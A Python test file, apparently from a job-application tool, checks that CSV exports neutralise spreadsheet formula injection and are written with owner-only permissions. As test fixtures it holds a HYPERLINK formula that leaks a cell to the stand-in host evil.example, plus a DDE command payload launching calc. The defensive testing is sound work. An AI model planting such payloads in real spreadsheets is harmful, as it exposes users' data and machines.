"""CSV exports of hostile offers: no cell a spreadsheet would run, files readable by the owner only."""

from __future__ import annotations

import csv
import json
import stat

import pytest

from jobapp.domain import CvDocument, Match, Offer
from jobapp.steps.collect import upsert_offers
from jobapp.store import db, repo
from jobapp.store.export import FORMULA_TRIGGERS, export_all, inert_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Postuler")'


def _rows(path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_hyperlink_title_is_exported_as_text(tmp_path):
    hostile = Offer(title=HYPERLINK, company="+cmd|' /C calc'!A0", location="@SUM(1+1)", contract="-2+3",
                    description="\t=1+1", url="https://example.com/1", source="file")  # fmt: skip
    with db.session() as s:
        ids = upsert_offers(s, [hostile]).new
        cv = repo.add_cv(s, CvDocument(filename="=cv.txt", format="txt", text="Python", sha256="c" * 64))
        repo.save_matches(s, [Match(offer_id=ids[0], cv_id=cv.id, rank=1, score=60.0, engine="hybrid")], "h")
    export_all(tmp_path / "out")

    offers = _rows(tmp_path / "out" / "1_offers.csv")
    assert offers[0]["title"] == "'" + HYPERLINK  # shown as the text it is, never evaluated
    assert offers[0]["company"].startswith("'+") and offers[0]["location"].startswith("'@")
    assert offers[0]["contract"] == "'-2+3" and offers[0]["description"].startswith("'\t")
    assert _rows(tmp_path / "out" / "5_6_matches.csv")[0]["title"] == "'" + HYPERLINK
    assert _rows(tmp_path / "out" / "3_cvs.csv")[0]["filename"] == "'=cv.txt"
    for path in (tmp_path / "out").glob("*.csv"):
        for row in _rows(path):
            for value in row.values():
                assert not (value or "").lstrip(" ").startswith(FORMULA_TRIGGERS), (path.name, value)
    # the JSON export is data, not a sheet: it keeps the exact text
    assert (
        json.loads((tmp_path / "out" / "1_offers.json").read_text(encoding="utf-8"))[0]["title"] == HYPERLINK
    )


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "＝1"])
def test_formula_starts_are_neutralised(value):
    assert inert_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Data analyst", "C++ developer", "", "1-2 ans", 42, -3.5, None])
def test_ordinary_values_are_unchanged(value):
    assert inert_cell(value) == value


def test_export_files_are_private(tmp_path):
    with db.session() as s:
        upsert_offers(s, [Offer(title="Data analyst", description="SQL", source="file")])
    existing = tmp_path / "out" / "1_offers.csv"
    existing.parent.mkdir()
    existing.write_text("old", encoding="utf-8")
    existing.chmod(0o644)
    paths = export_all(tmp_path / "out")
    for path in paths:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
    fresh = tmp_path / "new" / "export"
    export_all(fresh)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o700
